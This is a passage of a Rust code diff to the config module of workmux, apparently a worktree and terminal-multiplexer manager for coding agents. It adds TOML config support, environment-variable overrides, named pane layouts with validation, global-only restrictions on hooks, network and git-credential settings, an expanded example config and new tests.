+const PROJECT_CONFIG_NAMES: [&str; 3] = [".workmux.yaml", ".workmux.yml", ".workmux.toml"];
+
+/// Global config file names under `~/.config/workmux`, in lookup order.
+const GLOBAL_CONFIG_NAMES: [&str; 3] = ["config.yaml", "config.yml", "config.toml"];
+
+/// Serialization format of a config file, chosen by its extension.
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum ConfigFormat {
+    Yaml,
+    Toml,
+}
+
+impl ConfigFormat {
+    /// `.toml` files are TOML; everything else is read as YAML.
+    fn from_path(path: &Path) -> Self {
+        match path.extension().and_then(|ext| ext.to_str()) {
+            Some("toml") => ConfigFormat::Toml,
+            _ => ConfigFormat::Yaml,
+        }
+    }
+
+    fn parse(self, contents: &str) -> anyhow::Result<Config> {
+        Ok(match self {
+            ConfigFormat::Yaml => serde_yaml::from_str(contents)?,
+            ConfigFormat::Toml => toml::from_str(contents)?,
+        })
+    }
+}
+
+/// Find the nearest .workmux.yaml (or .yml/.toml) by walking up from start_dir to repo root.
 /// Returns ConfigLocation with the relative path computed at discovery time.
 pub fn find_project_config(start_dir: &Path) -> anyhow::Result<Option<ConfigLocation>> {
-    let config_names = [".workmux.yaml", ".workmux.yml"];
+    let config_names = PROJECT_CONFIG_NAMES;
 
     let repo_root = match git::get_repo_root_for(start_dir) {
         Ok(root) => root,
@@ -960,39 +1653,162 @@ pub fn validate_panes_config(panes: &[PaneConfig]) -> anyhow::Result<()> {
     Ok(())
 }
 
+/// Validate a named layout: splits have a direction and at least two panes,
+/// their percentages add up, and the resulting panes pass the usual rules.
+pub fn validate_layout(name: &str, layout: &LayoutConfig) -> anyhow::Result<()> {
+    validate_layout_node(layout)
+        .and_then(|()| validate_panes_config(&layout.to_panes()))
+        .map_err(|e| anyhow::anyhow!("Invalid layout '{}': {}", name, e))
+}
+
+fn validate_layout_node(node: &LayoutConfig) -> anyhow::Result<()> {
+    match (&node.split, node.panes.len()) {
+        (None, 0) => return Ok(()),
+        (None, _) => anyhow::bail!("a node with 'panes' needs 'split' (horizontal or vertical)"),
+        (Some(_), 0 | 1) => anyhow::bail!("a split needs at least two panes"),
+        (Some(_), _) => {}
+    }
+    if node.command.is_some() || node.focus || node.cwd.is_some() {
+        anyhow::bail!("a split can't set 'command', 'focus' or 'cwd'; set them on its panes");
+    }
+
+    let percentages: Vec<u32> = node
+        .panes
+        .iter()
+        .filter_map(|p| p.percentage)
+        .map(u32::from)
+        .collect();
+    if percentages.iter().any(|&p| p == 0 || p >= 100) {
+        anyhow::bail!("pane percentages must be between 1 and 99");
+    }
+    let total: u32 = percentages.iter().sum();
+    if percentages.len() == node.panes.len() && total != 100 {
+        anyhow::bail!(
+            "percentages of a split's panes add up to {}%, expected 100%",
+            total
+        );
+    }
+    if percentages.len() < node.panes.len() && total >= 100 {
+        anyhow::bail!(
+            "percentages of a split's panes add up to {}%, leaving nothing for the rest",
+            total
+        );
+    }
+    node.panes.iter().try_for_each(validate_layout_node)
+}
+
 /// Get the path to the global config file.
-/// Prefers existing .yml file to avoid shadowing, otherwise defaults to .yaml.
+/// Prefers an existing .yaml, .yml or .toml file (in that order, matching the
+/// load order) to avoid shadowing, otherwise defaults to .yaml.
 pub fn global_config_path() -> Option<PathBuf> {
-    let home = home::home_dir()?;
-    let yaml = home.join(".config/workmux/config.yaml");
-    let yml = home.join(".config/workmux/config.yml");
+    let dir = home::home_dir()?.join(".config/workmux");
+    let existing = GLOBAL_CONFIG_NAMES
+        .iter()
+        .map(|name| dir.join(name))
+        .find(|path| path.exists());
+    Some(existing.unwrap_or_else(|| dir.join(GLOBAL_CONFIG_NAMES[0])))
+}
 
-    // Prefer existing .yml file to avoid shadowing user's config
-    if yml.exists() && !yaml.exists() {
-        Some(yml)
-    } else {
-        Some(yaml)
-    }
+/// Environment variables that override config fields, as (variable, key).
+/// Applied over the merged file config, so the precedence is
+/// CLI flags > environment > project config > global config > defaults.
+pub const ENV_OVERRIDES: &[(&str, &str)] = &[
+    ("WORKMUX_AGENT", "agent"),
+    ("WORKMUX_MAIN_BRANCH", "main_branch"),
+    ("WORKMUX_WORKTREE_DIR", "worktree_dir"),
+    ("WORKMUX_WORKTREE_PREFIX", "worktree_prefix"),
+    ("WORKMUX_WINDOW_PREFIX", "window_prefix"),
+    ("WORKMUX_WINDOW_NAME_TEMPLATE", "window_name_template"),
+    ("WORKMUX_MODE", "mode"),
+    ("WORKMUX_MERGE_STRATEGY", "merge_strategy"),
+    ("WORKMUX_NERDFONT", "nerdfont"),
+    ("WORKMUX_STATUS_FORMAT", "status_format"),
+    ("WORKMUX_STATUS_ICON_THEME", "status_icon_theme"),
+    ("WORKMUX_DESKTOP_NOTIFICATIONS", "desktop_notifications"),
+    ("WORKMUX_LAST_DONE_WINDOW", "last_done_window"),
+    ("WORKMUX_ENV_FILE", "env_file"),
+    ("WORKMUX_HANDSHAKE_TIMEOUT", "handshake_timeout"),
+    ("WORKMUX_SANDBOX_ENABLED", "sandbox.enabled"),
+    ("WORKMUX_SANDBOX_BACKEND", "sandbox.backend"),
+    ("WORKMUX_SANDBOX_TARGET", "sandbox.target"),
+    ("WORKMUX_SANDBOX_IMAGE", "sandbox.image"),
+];
+
+/// Parse an override value the way the same YAML scalar would be parsed.
+fn parse_override<T: serde::de::DeserializeOwned>(value: &str) -> anyhow::Result<T> {
+    Ok(serde_yaml::from_str(value)?)
 }
 
 impl Config {
+    /// Override fields from the `WORKMUX_*` variables in [`ENV_OVERRIDES`].
+    fn apply_env_overrides(&mut self) -> anyhow::Result<()> {
+        self.apply_overrides(|var| env::var(var).ok())
+    }
+
+    /// Apply [`ENV_OVERRIDES`] using `lookup` to read variables. Empty values
+    /// are treated as unset.
+    fn apply_overrides(&mut self, lookup: impl Fn(&str) -> Option<String>) -> anyhow::Result<()> {
+        for (var, key) in ENV_OVERRIDES {
+            let Some(value) = lookup(var).filter(|v| !v.trim().is_empty()) else {
+                continue;
+            };
+            debug!(var, key, "config:env override");
+            self.set_override(key, value.trim())
+                .map_err(|e| anyhow::anyhow!("Invalid {}='{}' (for {}): {}", var, value, key, e))?;
+        }
+        Ok(())
+    }
+
+    fn set_override(&mut self, key: &str, value: &str) -> anyhow::Result<()> {
+        let text = Some(value.to_string());
+        match key {
+            "agent" => self.agent = text,
+            "main_branch" => self.main_branch = text,
+            "worktree_dir" => self.worktree_dir = text,
+            "worktree_prefix" => self.worktree_prefix = text,
+            "window_prefix" => self.window_prefix = text,
+            "window_name_template" => self.window_name_template = text,
+            "mode" => self.mode = Some(parse_override(value)?),
+            "merge_strategy" => self.merge_strategy = Some(parse_override(value)?),
+            "nerdfont" => self.nerdfont = Some(parse_override(value)?),
+            "status_format" => self.status_format = Some(parse_override(value)?),
+            "status_icon_theme" => self.status_icon_theme = Some(parse_override(value)?),
+            "desktop_notifications" => self.desktop_notifications = Some(parse_override(value)?),
+            "last_done_window" => self.last_done_window = text,
+            "env_file" => self.env_file = text,
+            "handshake_timeout" => self.handshake_timeout = Some(parse_override(value)?),
+            "sandbox.enabled" => self.sandbox.enabled = Some(parse_override(value)?),
+            "sandbox.backend" => self.sandbox.backend = Some(parse_override(value)?),
+            "sandbox.target" => self.sandbox.target = Some(parse_override(value)?),
+            "sandbox.image" => self.sandbox.image = text,
+            _ => anyhow::bail!("unknown config key '{}'", key),
+        }
+        Ok(())
+    }
+
     /// Load and merge global and project configurations.
     pub fn load(cli_agent: Option<&str>) -> anyhow::Result<Self> {
-        debug!("config:loading");
-        let global_config = Self::load_global()?.unwrap_or_default();
-        let project_config = Self::load_project()?.unwrap_or_default();
+        Self::load_in(&std::env::current_dir().unwrap_or_default(), cli_agent)
+    }
 
-        let final_agent = cli_agent
-            .map(|s| s.to_string())
-            .or_else(|| project_config.agent.clone())
-            .or_else(|| global_config.agent.clone())
-            .unwrap_or_else(|| "claude".to_string());
+    /// Load and merge configurations as seen from `dir` instead of the
+    /// current directory, e.g. for a worktree passed on the command line.
+    pub fn load_in(dir: &Path, cli_agent: Option<&str>) -> anyhow::Result<Self> {
+        debug!(dir = %dir.display(), "config:loading");
+        let global_config = Self::load_global()?.unwrap_or_default();
+        let project_config = Self::load_project(dir)?.unwrap_or_default();
 
         let mut config = global_config.merge(project_config);
-        config.agent = Some(final_agent);
+        config.apply_env_overrides()?;
+        config.agent = Some(
+            cli_agent
+                .map(|s| s.to_string())
+                .or(config.agent.take())
+                .unwrap_or_else(|| "claude".to_string()),
+        );
 
         // After merging, apply sensible defaults for any values that are not configured.
-        if let Ok(repo_root) = git::get_repo_root() {
+        if let Ok(repo_root) = git::get_repo_root_for(dir) {
             // Apply defaults that require inspecting the repository.
             let has_node_modules = repo_root.join("pnpm-lock.yaml").exists()
                 || repo_root.join("package-lock.json").exists()
@@ -1019,6 +1835,14 @@ impl Config {
         }
 
         config.sandbox.network.validate()?;
+        config.sandbox.container.validate()?;
+        config.last_done_window()?;
+        for (name, layout) in config.layouts.iter().flatten() {
+            validate_layout(name, layout)?;
+        }
+        if let Some(template) = &config.window_name_template {
+            crate::naming::validate_window_name_template(template)?;
+        }
 
         debug!(
             agent = ?config.agent,
@@ -1036,17 +1860,18 @@ impl Config {
     ) -> anyhow::Result<(Self, Option<ConfigLocation>)> {
         debug!("config:loading with location");
         let global_config = Self::load_global()?.unwrap_or_default();
-        let (project_config, location) = Self::load_project_with_location()?;
+        let start_dir = std::env::current_dir().unwrap_or_default();
+        let (project_config, location) = Self::load_project_with_location(&start_dir)?;
         let project_config = project_config.unwrap_or_default();
 
-        let final_agent = cli_agent
-            .map(|s| s.to_string())
-            .or_else(|| project_config.agent.clone())
-            .or_else(|| global_config.agent.clone())
-            .unwrap_or_else(|| "claude".to_string());
-
         let mut config = global_config.merge(project_config);
-        config.agent = Some(final_agent);
+        config.apply_env_overrides()?;
+        config.agent = Some(
+            cli_agent
+                .map(|s| s.to_string())
+                .or(config.agent.take())
+                .unwrap_or_else(|| "claude".to_string()),
+        );
 
         // Apply defaults - scope to config directory if nested config found
         let defaults_root = location
@@ -1076,6 +1901,14 @@ impl Config {
         }
 
         config.sandbox.network.validate()?;
+        config.sandbox.container.validate()?;
+        config.last_done_window()?;
+        for (name, layout) in config.layouts.iter().flatten() {
+            validate_layout(name, layout)?;
+        }
+        if let Some(template) = &config.window_name_template {
+            crate::naming::validate_window_name_template(template)?;
+        }
 
         debug!(
             agent = ?config.agent,
@@ -1087,14 +1920,16 @@ impl Config {
         Ok((config, location))
     }
 
-    /// Load configuration from a specific path.
+    /// Load configuration from a specific path, as TOML or YAML depending on
+    /// its extension.
     fn load_from_path(path: &Path) -> anyhow::Result<Option<Self>> {
         if !path.exists() {
             return Ok(None);
         }
         debug!(path = %path.display(), "config:reading file");
         let contents = fs::read_to_string(path)?;
-        let config: Config = serde_yaml::from_str(&contents)
+        let config = ConfigFormat::from_path(path)
+            .parse(&contents)
             .map_err(|e| anyhow::anyhow!("Failed to parse config at {}: {}", path.display(), e))?;
         Ok(Some(config))
     }
@@ -1103,13 +1938,12 @@ impl Config {
     fn load_global() -> anyhow::Result<Option<Self>> {
         // Check ~/.config/workmux (XDG convention, works cross-platform)
         if let Some(home_dir) = home::home_dir() {
-            let xdg_config_path = home_dir.join(".config/workmux/config.yaml");
-            if xdg_config_path.exists() {
-                return Self::load_from_path(&xdg_config_path);
-            }
-            let xdg_config_path_yml = home_dir.join(".config/workmux/config.yml");
-            if xdg_config_path_yml.exists() {
-                return Self::load_from_path(&xdg_config_path_yml);
+            let dir = home_dir.join(".config/workmux");
+            for name in GLOBAL_CONFIG_NAMES {
+                let path = dir.join(name);
+                if path.exists() {
+                    return Self::load_from_path(&path);
+                }
             }
         }
         Ok(None)
@@ -1117,10 +1951,10 @@ impl Config {
 
     /// Load project config and return its location.
     /// Returns (Config, Option<ConfigLocation>) - location is None if no config found.
-    fn load_project_with_location() -> anyhow::Result<(Option<Self>, Option<ConfigLocation>)> {
-        let start_dir = std::env::current_dir().unwrap_or_default();
-
-        if let Some(location) = find_project_config(&start_dir)? {
+    fn load_project_with_location(
+        start_dir: &Path,
+    ) -> anyhow::Result<(Option<Self>, Option<ConfigLocation>)> {
+        if let Some(location) = find_project_config(start_dir)? {
             let config = Self::load_from_path(&location.config_path)?;
             return Ok((config, Some(location)));
         }
@@ -1130,11 +1964,11 @@ impl Config {
 
     /// Load the project-specific configuration file.
     ///
-    /// Searches for `.workmux.yaml` or `.workmux.yml` by walking upward from CWD:
-    /// 1. Current directory up to repo root (finds nearest config)
+    /// Searches for `.workmux.yaml`, `.workmux.yml` or `.workmux.toml` by walking upward from `start_dir`:
+    /// 1. `start_dir` up to repo root (finds nearest config)
     /// 2. Main worktree root (fallback for linked worktrees)
-    fn load_project() -> anyhow::Result<Option<Self>> {
-        let (config, _location) = Self::load_project_with_location()?;
+    fn load_project(start_dir: &Path) -> anyhow::Result<Option<Self>> {
+        let (config, _location) = Self::load_project_with_location(start_dir)?;
         Ok(config)
     }
 
@@ -1189,14 +2023,22 @@ impl Config {
             main_branch,
             worktree_dir,
             window_prefix,
+            window_name_template,
             agent,
             merge_strategy,
+            gitlab_hosts,
             worktree_prefix,
             panes,
             windows,
             status_format,
+            status_icon_theme,
             auto_name,
             nerdfont,
+            last_done_window,
+            desktop_notifications,
+            env_file,
+            handshake_timeout,
+            setup_script,
         );
 
         // windows and panes are mutually exclusive: project layout choice wins entirely
@@ -1226,6 +2068,7 @@ impl Config {
 
         // Special case: mode (project wins if explicitly set)
         merged.mode = project.mode.or(self.mode);
+        merged.multiplexer = project.multiplexer.or(self.multiplexer);
 
         // List values with "<global>" placeholder support
         merged.post_create = merge_vec_with_placeholder(self.post_create, project.post_create);
@@ -1238,6 +2081,24 @@ impl Config {
             symlink: merge_vec_with_placeholder(self.files.symlink, project.files.symlink),
         };
 
+        // Layouts: merged by name, project wins
+        merged.layouts = match (self.layouts, project.layouts) {
+            (Some(mut global), Some(project)) => {
+                global.extend(project);
+                Some(global)
+            }
+            (global, project) => project.or(global),
+        };
+
+        // Agent profiles: merged by agent name, project wins
+        merged.profiles = match (self.profiles, project.profiles) {
+            (Some(mut global), Some(project)) => {
+                global.extend(project);
+                Some(global)
+            }
+            (global, project) => project.or(global),
+        };
+
         // Status icons: per-field override
         merged.status_icons = StatusIcons {
             working: project.status_icons.working.or(self.status_icons.working),
@@ -1257,6 +2118,40 @@ impl Config {
                 .dashboard
                 .show_check_counts
                 .or(self.dashboard.show_check_counts),
+            zellij_preview: project
+                .dashboard
+                .zellij_preview
+                .or(self.dashboard.zellij_preview),
+            zellij_preview_cache_ms: project
+                .dashboard
+                .zellij_preview_cache_ms
+                .or(self.dashboard.zellij_preview_cache_ms),
+            status_watch: project
+                .dashboard
+                .status_watch
+                .or(self.dashboard.status_watch),
+            refresh_ms: project.dashboard.refresh_ms.or(self.dashboard.refresh_ms),
+            adaptive_refresh: project
+                .dashboard
+                .adaptive_refresh
+                .or(self.dashboard.adaptive_refresh),
+        };
+
+        // Security: status hooks are global-only. They run unsandboxed on
+        // the host, and a sandboxed agent can both edit the worktree's
+        // .workmux.yaml and report a status change over RPC.
+        merged.hooks = {
+            let project_hooks = &project.hooks;
+            if project_hooks.on_working.is_some()
+                || project_hooks.on_waiting.is_some()
+                || project_hooks.on_done.is_some()
+            {
+                tracing::warn!(
+                    "hooks in project config (.workmux.yaml) is ignored -- \
+                    move it to your global config (~/.config/workmux/config.yaml)"
+                );
+            }
+            self.hooks
         };
 
         // Sandbox config: per-field override with nested struct merging
@@ -1349,6 +2244,18 @@ impl Config {
                 }
                 self.sandbox.agent_config_dir.clone()
             },
+            gpu: project.sandbox.gpu.or(self.sandbox.gpu),
+            heartbeat_interval: project
+                .sandbox
+                .heartbeat_interval
+                .or(self.sandbox.heartbeat_interval),
+            image_check: project.sandbox.image_check.or(self.sandbox.image_check),
+            host_exec_timeout: project
+                .sandbox
+                .host_exec_timeout
+                .or(self.sandbox.host_exec_timeout),
+            ready_check: project.sandbox.ready_check.or(self.sandbox.ready_check),
+            ready_timeout: project.sandbox.ready_timeout.or(self.sandbox.ready_timeout),
             lima: LimaConfig::merge(self.sandbox.lima, project.sandbox.lima),
             container: ContainerConfig::merge(self.sandbox.container, project.sandbox.container),
             // Security: network is global-only. Project config cannot
@@ -1357,6 +2264,7 @@ impl Config {
             network: {
                 if project.sandbox.network.policy.is_some()
                     || project.sandbox.network.allowed_domains.is_some()
+                    || project.sandbox.network.mode.is_some()
                 {
                     tracing::warn!(
                         "network in project config (.workmux.yaml) is ignored -- \
@@ -1369,6 +2277,18 @@ impl Config {
             dangerously_allow_unsandboxed_host_exec: self
                 .sandbox
                 .dangerously_allow_unsandboxed_host_exec,
+            // Security: git_credentials is global-only. Project config cannot
+            // set it -- this prevents a malicious repo from re-enabling
+            // credential proxying the user turned off.
+            git_credentials: {
+                if project.sandbox.git_credentials.is_some() {
+                    tracing::warn!(
+                        "git_credentials in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.git_credentials
+            },
         };
 
         merged
@@ -1384,6 +2304,7 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None,
+                cwd: None,
             },
             PaneConfig {
                 command: Some("clear".to_string()),
@@ -1392,6 +2313,7 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None, // Splits most recent (pane 0)
+                cwd: None,
             },
         ]
     }
@@ -1406,6 +2328,7 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None,
+                cwd: None,
             },
             PaneConfig {
                 command: Some("clear".to_string()),
@@ -1414,10 +2337,16 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None, // Splits most recent (pane 0)
+                cwd: None,
             },
         ]
     }
 
+    /// Extra hosts treated as GitLab when detecting the forge.
+    pub fn gitlab_hosts(&self) -> &[String] {
+        self.gitlab_hosts.as_deref().unwrap_or(&[])
+    }
+
     /// Get the window prefix to use.
     /// Priority: explicit window_prefix config > nerdfont icon > "wm-"
     pub fn window_prefix(&self) -> &str {
@@ -1436,15 +2365,85 @@ impl Config {
         self.mode.unwrap_or(MuxMode::Window)
     }
 
+    /// Get the status icons: the theme's icons under per-icon overrides.
+    pub fn status_icons(&self) -> StatusIcons {
+        self.status_icons
+            .with_theme(self.status_icon_theme.unwrap_or_default())
+    }
+
+    /// Get the multiplexer choice (auto-detect unless forced).
+    pub fn multiplexer(&self) -> MultiplexerChoice {
+        self.multiplexer.unwrap_or_default()
+    }
+
+    /// Whether status changes to waiting/done show a desktop notification.
+    pub fn desktop_notifications(&self) -> bool {
+        self.desktop_notifications.unwrap_or(false)
+    }
+
+    /// Replace the pane layout with the named entry from `layouts`.
+    pub fn apply_layout(&mut self, name: &str) -> anyhow::Result<()> {
+        let layout = self
+            .layouts
+            .as_ref()
+            .and_then(|layouts| layouts.get(name))
+            .ok_or_else(|| {
+                let available: Vec<&str> = self
+                    .layouts
+                    .iter()
+                    .flatten()
+                    .map(|(name, _)| name.as_str())
+                    .collect();
+                if available.is_empty() {
+                    anyhow::anyhow!("Unknown layout '{}'. No layouts are configured.", name)
+                } else {
+                    anyhow::anyhow!(
+                        "Unknown layout '{}'. Available layouts: {}",
+                        name,
+                        available.join(", ")
+                    )
+                }
+            })?;
+        self.panes = Some(layout.to_panes());
+        self.windows = None;
+        Ok(())
+    }
+
+    /// How long pane setup waits for a new pane's shell to start.
+    pub fn handshake_timeout(&self) -> Duration {
+        Duration::from_secs(self.handshake_timeout.unwrap_or(10))
+    }
+
+    /// Get the per-worktree env file name. Default: `.workmux.env`
+    pub fn env_file(&self) -> &str {
+        self.env_file.as_deref().unwrap_or(".workmux.env")
+    }
+
+    /// Get the `last-done` window. None means completed agents never expire.
+    /// Errors on an unparseable duration, which is checked at config load.
+    pub fn last_done_window(&self) -> anyhow::Result<Option<Duration>> {
+        self.last_done_window
+            .as_deref()
+            .map(|window| {
+                util::parse_age(window)
+                    .map_err(|e| anyhow::anyhow!("Invalid last_done_window: {}", e))
+            })
+            .transpose()
+    }
+
     /// Create an example .workmux.yaml configuration file
     pub fn init() -> anyhow::Result<()> {
         use std::path::PathBuf;
 
         let config_path = PathBuf::from(".workmux.yaml");
 
-        if config_path.exists() {
+        if let Some(existing) = PROJECT_CONFIG_NAMES
+            .iter()
+            .find(|name| PathBuf::from(name).exists())
+        {
             return Err(anyhow::anyhow!(
-                ".workmux.yaml already exists. Remove it first if you want to regenerate it."
+                "{} already exists. Remove it first if you want to regenerate it.",
+                existing
             ));
         }
 
@@ -1473,6 +2472,10 @@ impl Config {
 # CLI flags (--rebase, --squash) always override this.
 # merge_strategy: rebase
 
+# Self-hosted GitLab hosts for `workmux list --pr`. Hosts containing
+# "gitlab" are detected automatically.
+# gitlab_hosts: ["git.example.com"]
+
 #-------------------------------------------------------------------------------
 # Naming & Paths
 #-------------------------------------------------------------------------------
@@ -1493,6 +2496,11 @@ impl Config {
 # Default: "wm-"
 # window_prefix: "wm-"
 
+# Template for window and session names. Must start with {prefix} and
+# contain {handle}. Placeholders: {prefix}, {handle}, {branch}, {pr}.
+# Default: "{prefix}{handle}"
+# window_name_template: "{prefix}{pr}-{handle}"
+
 #-------------------------------------------------------------------------------
 # Tmux
 #-------------------------------------------------------------------------------
@@ -1502,6 +2510,10 @@ impl Config {
 # - session: Create new tmux sessions for each worktree (useful for session-per-project workflows)
 # mode: session
 
+# Force a multiplexer backend: auto (default), tmux, zellij, wezterm, or kitty.
+# Useful when nesting multiplexers (e.g., zellij inside a tmux session).
+# multiplexer: zellij
+
 # Custom tmux pane layout (mutually exclusive with 'windows').
 # Default: Two-pane layout with shell and clear command.
 # panes:
@@ -1512,6 +2524,21 @@ impl Config {
 #     split: vertical
 #     size: 5
 
+# Named pane layouts, selected with `workmux add --layout <name>`.
+# A layout is a tree: a split lays out its panes side by side (horizontal)
+# or stacked (vertical), and each pane may be a split itself.
+# layouts:
+#   three-pane:
+#     split: horizontal
+#     panes:
+#       - command: <agent>
+#         focus: true
+#         percentage: 60
+#       - split: vertical
+#         panes:
+#           - command: tail -f log/development.log
+#           - {}
+
 # Multiple windows per session (session mode only, mutually exclusive with 'panes').
 # Each window can have its own pane layout. Unnamed windows get tmux's
 # automatic naming based on the running command.
@@ -1532,7 +2559,11 @@ impl Config {
 # Default: true
 # status_format: true
 
-# Custom icons for agent status display.
+# Built-in status icon set: emoji, nerdfont or ascii.
+# Default: emoji
+# status_icon_theme: emoji
+
+# Custom icons for agent status display. Overrides single icons of the theme.
 # status_icons:
 #   working: "🤖"
 #   waiting: "💬"
@@ -1546,6 +2577,18 @@ impl Config {
 # Default: "claude"
 # agent: claude
 
+# Input timing per agent, used when workmux types into an agent pane.
+# Keys are agent names (the executable name of the agent command).
+# profiles:
+#   claude:
+#     bang_delay_ms: 50     # pause after a leading '!'
+#   my-agent:
+#     submit_delay_ms: 100  # pause before pressing the submit key
+#     submit_key: Enter
+#     bracketed_paste: false  # type multi-line input line by line
+#     status_patterns:      # regexes for dashboard.status_watch
+#       waiting: 'Approve\?'
+
 # LLM-based branch name generation (`workmux add -A`).
 # auto_name:
 #   model: "gpt-4o-mini"
@@ -1564,6 +2607,11 @@ impl Config {
 #   - "<global>"
 #   - mise use
 
+# Script to run once in the agent pane of a new worktree, before the agent
+# starts. Unlike post_create it runs in the pane (inside the sandbox when
+# sandboxing is on) and is skipped on later opens; use --rerun-setup to force.
+# setup_script: npm install && direnv allow
+
 # Commands to run before merging (e.g., linting, tests).
 # Aborts the merge if any command fails.
 # Use "<global>" to inherit from global config.
@@ -1618,7 +2666,10 @@ impl Config {
 #   commit: "Commit staged changes with a descriptive message"
 #   merge: "!workmux merge"
 #   preview_size: 60
-
+#   zellij_preview_cache_ms: 1000  # how long Zellij pane captures are reused
+#   status_watch: false  # infer agent status from pane output
+#   refresh_ms: 2000
+#   adaptive_refresh: false  # refresh less often while statuses are unchanged
 #-------------------------------------------------------------------------------
 # Sandbox
 #-------------------------------------------------------------------------------
@@ -1627,8 +2678,11 @@ impl Config {
 #   enabled: false
 #   backend: lima
 #   # host_commands: ["just", "cargo", "npm"]
+#   # ready_check: which claude  # wait for this to pass before starting the agent
 #   # container:
-#   #   runtime: docker
+#   #   runtime: docker  # docker, podman, or auto
+#   #   cpus: "2"        # --cpus limit
+#   #   memory: 4g       # --memory limit
 #   # lima:
 #   #   isolation: project
 #   #   cpus: 4
@@ -1638,9 +2692,10 @@ impl Config {
 #   #   # provision: |
 #   #   #   sudo apt-get install -y ripgrep fd-find jq
 #   # Extra mount points (read-only by default).
-#   # Supports simple paths or detailed specs with guest_path and writable.
+#   # Supports simple paths, host:target[:ro|:rw] strings, or detailed specs.
 #   # extra_mounts:
 #   #   - ~/my-notes
+#   #   - /tmp/cache:/tmp/cache:rw
 #   #   - host_path: ~/data
 #   #     guest_path: /mnt/data
 #   #     writable: true
@@ -1747,9 +2802,9 @@ pub fn is_agent_command(command_line: &str, agent_command: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::{
-        Config, ContainerConfig, ExtraMount, LimaConfig, NetworkConfig, NetworkPolicy,
-        SandboxConfig, SandboxRuntime, SandboxTarget, ToolchainMode, is_agent_command,
-        split_first_token, validate_domain,
+        AgentStatus, Config, ContainerConfig, ExtraMount, HooksConfig, LimaConfig, NetworkConfig,
+        NetworkPolicy, SandboxConfig, SandboxRuntime, SandboxTarget, ToolchainMode,
+        is_agent_command, split_first_token, validate_domain,
     };
 
     #[test]
@@ -1873,16 +2928,57 @@ mod tests {
         // Create root config
         fs::write(root.join(".workmux.yaml"), "agent: root").unwrap();
 
-        // Create nested config
-        let backend = root.join("backend");
-        fs::create_dir_all(&backend).unwrap();
-        fs::write(backend.join(".workmux.yaml"), "agent: backend").unwrap();
+        // Create nested config
+        let backend = root.join("backend");
+        fs::create_dir_all(&backend).unwrap();
+        fs::write(backend.join(".workmux.yaml"), "agent: backend").unwrap();
+
+        // Find from backend should find backend config, not root
+        let result = find_project_config(&backend).unwrap();
+        assert!(result.is_some());
+        let loc = result.unwrap();
+        assert!(loc.config_path.ends_with("backend/.workmux.yaml"));
+    }
+
+    fn host_vars(names: &[&str]) -> Vec<String> {
+        names.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn env_passthrough_prefix_pattern() {
+        let vars = host_vars(&["AWS_SECRET", "HOME", "AWS_REGION", "GITHUB_TOKEN"]);
+        assert_eq!(
+            super::expand_env_passthrough(&["AWS_*"], vars),
+            vec!["AWS_REGION", "AWS_SECRET"]
+        );
+    }
+
+    #[test]
+    fn env_passthrough_suffix_pattern() {
+        let vars = host_vars(&["OPENAI_API_KEY", "API_KEY_FILE", "GEMINI_API_KEY"]);
+        assert_eq!(
+            super::expand_env_passthrough(&["*_API_KEY"], vars),
+            vec!["GEMINI_API_KEY", "OPENAI_API_KEY"]
+        );
+    }
+
+    #[test]
+    fn env_passthrough_globs_skip_guest_owned_vars() {
+        let vars = host_vars(&["PATH", "HOME", "USER", "SHELL", "EDITOR"]);
+        assert_eq!(
+            super::expand_env_passthrough(&["*"], vars.clone()),
+            vec!["EDITOR"]
+        );
+        assert_eq!(super::expand_env_passthrough(&["HOME"], vars), vec!["HOME"]);
+    }
 
-        // Find from backend should find backend config, not root
-        let result = find_project_config(&backend).unwrap();
-        assert!(result.is_some());
-        let loc = result.unwrap();
-        assert!(loc.config_path.ends_with("backend/.workmux.yaml"));
+    #[test]
+    fn env_passthrough_exact_names_and_dedup() {
+        let vars = host_vars(&["GITHUB_TOKEN", "GITHUB_USER", "EDITOR"]);
+        assert_eq!(
+            super::expand_env_passthrough(&["EDITOR", "MISSING", "GITHUB_*", "GITHUB_TOKEN"], vars),
+            vec!["EDITOR", "GITHUB_TOKEN", "GITHUB_USER"]
+        );
     }
 
     #[test]
@@ -1897,21 +2993,77 @@ mod tests {
     fn sandbox_runtime_explicit_overrides_detect() {
         let config = ContainerConfig {
             runtime: Some(SandboxRuntime::Podman),
+            ..Default::default()
         };
-        assert_eq!(config.runtime(), SandboxRuntime::Podman);
+        assert_eq!(config.runtime().unwrap(), SandboxRuntime::Podman);
 
         let config = ContainerConfig {
             runtime: Some(SandboxRuntime::Docker),
+            ..Default::default()
+        };
+        assert_eq!(config.runtime().unwrap(), SandboxRuntime::Docker);
+    }
+
+    #[test]
+    fn network_mode_rejects_deny_with_none_or_host() {
+        for mode in ["none", "host"] {
+            let config = NetworkConfig {
+                policy: Some(NetworkPolicy::Deny),
+                mode: Some(mode.to_string()),
+                ..Default::default()
+            };
+            let err = config.validate().unwrap_err();
+            assert!(err.to_string().contains("cannot be combined"), "{mode}");
+        }
+
+        let config = NetworkConfig {
+            policy: Some(NetworkPolicy::Deny),
+            mode: Some("agents-bridge".to_string()),
+            ..Default::default()
+        };
+        assert!(config.validate().is_ok());
+
+        let config = NetworkConfig {
+            mode: Some("none".to_string()),
+            ..Default::default()
         };
-        assert_eq!(config.runtime(), SandboxRuntime::Docker);
+        assert!(config.validate().is_ok());
+    }
+
+    #[test]
+    fn sandbox_runtime_auto_parses_and_resolves_to_concrete() {
+        let config: ContainerConfig = serde_yaml::from_str("runtime: auto").unwrap();
+        assert_eq!(config.runtime, Some(SandboxRuntime::Auto));
+        // Depends on PATH, but is never Auto itself, and agrees with detect
+        match config.runtime() {
+            Ok(runtime) => assert_eq!(runtime, SandboxRuntime::detect()),
+            Err(e) => assert!(e.to_string().contains("No container runtime found")),
+        }
+    }
+
+    #[test]
+    fn sandbox_runtime_resolve_keeps_explicit() {
+        assert_eq!(
+            SandboxRuntime::Podman.resolve().unwrap(),
+            SandboxRuntime::Podman
+        );
+        assert_eq!(
+            SandboxRuntime::Docker.resolve().unwrap(),
+            SandboxRuntime::Docker
+        );
